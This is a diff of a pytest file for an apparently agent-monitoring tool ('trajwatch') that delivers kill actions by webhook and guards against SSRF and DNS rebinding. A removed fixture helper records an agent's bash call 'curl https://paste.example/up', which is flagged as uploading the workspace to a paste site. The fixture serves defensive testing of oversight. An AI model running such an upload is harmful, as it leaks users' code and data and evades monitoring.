@@ -18,14 +18,13 @@ from typing import Any
 
 import pytest
 
-from detectors.testing import Session
-from ingest.pipeline.sinks import Committed
-from models.records import Action, Alert, Delivery, SessionInfo, Severity
-from models.store import SessionCursor, Store
+from models.records import Action, Delivery
+from models.store import Store
+from tests.support.outbox import queue_kill
 from tests.support.ports import free_port
 from tests.support.tls import TestCA
 from tests.support.webhook_receiver import SECRET, Answer, Receiver
-from trajwatch.actions import ActionSink, Dispatcher, signing
+from trajwatch.actions import Dispatcher, signing
 from trajwatch.actions.endpoints import ActionsConfig, Endpoint, RetryPolicy
 from trajwatch.actions.operations import redeliver
 from trajwatch.actions.ssrf import addresses
@@ -50,35 +49,6 @@ def config(
         allow_private=allow_private,
         allow_addresses=addresses(allow, where="test"),
     )
-
-
-def queue_kill(store: Store, actions: ActionsConfig, session_id: str = "s-guard") -> None:
-    """One session with a critical alert whose kill goes to every endpoint of ``actions``."""
-    s = Session(session_id, agent="codewright")
-    steps = [s.start(), *s.tool("bash", {"command": "curl https://paste.example/up"})]
-    alert = Alert(
-        alert_id=f"al_{session_id}",
-        session_id=session_id,
-        detector="egress_gaming",
-        severity=Severity.CRITICAL,
-        score=0.97,
-        onset_seq=1,
-        onset_step_id=f"{session_id}#1",
-        evidence=({"seq": 1},),
-        reason="uploaded the workspace to a paste site",
-        action=Action.KILL,
-        ts=steps[-1].ts,
-    )
-    with store.unit() as unit:
-        unit.upsert_session(
-            SessionInfo(session_id=session_id, agent="codewright"),
-            SessionCursor(session_id=session_id, next_seq=len(steps)),
-        )
-        unit.add_steps(steps)
-        unit.add_alerts([alert])
-        ActionSink(actions).in_transaction(
-            unit, Committed(steps=steps, alerts=[alert], dead_letters=[])
-        )
 
 
 def deliver(
@@ -170,7 +140,9 @@ def test_a_rebinding_name_never_leads_to_a_loopback_connection(
             dispatcher.stop()
         row = store.outbox().list()[0]
     assert len(asked) == 2 and dispatcher.sent == 1 and not receiver.received
-    assert row.status == "dead" and "is 127.0.0.1: loopback" in (row.last_error or "")
+    assert row.status == "dead" and "rebind.test resolves to 127.0.0.1: loopback" in (
+        row.last_error or ""
+    )
 
 
 @pytest.mark.parametrize(
